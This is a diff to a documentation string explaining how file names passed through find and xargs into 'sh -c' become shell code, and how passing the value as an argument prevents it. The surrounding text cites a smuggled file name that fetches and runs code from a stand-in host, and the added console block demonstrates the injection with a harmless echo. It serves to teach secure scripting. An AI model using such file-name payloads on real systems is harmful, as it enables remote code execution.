@@ -22,6 +22,19 @@ It is silent where the value is an argument (` + "`sh -c '... \"$1\"' sh \"$valu
 
 The second shell reads the value as code. find and xargs put the name of a file into the text as it is: a file named ` + "`$(wget -qO- evil.example | sh).html`" + ` is a command. Quotes around ` + "`{}`" + ` do not help, since the name may close them. Run on BusyBox 1.35 and on 1.37 as Alpine builds it.
 
+~~~console
+$ : > '$(echo "taken over" >&2).html'
+$ sh bad/compress.sh
+taken over
+...
+$ sh good/compress.sh
+$ ls
+$(echo "taken over" >&2).html
+$(echo "taken over" >&2).html.gz
+bad
+good
+~~~
+
 ## What to do
 
 Keep the text constant, in single quotes, and pass the value as an argument behind a name for ` + "`$0`" + `.
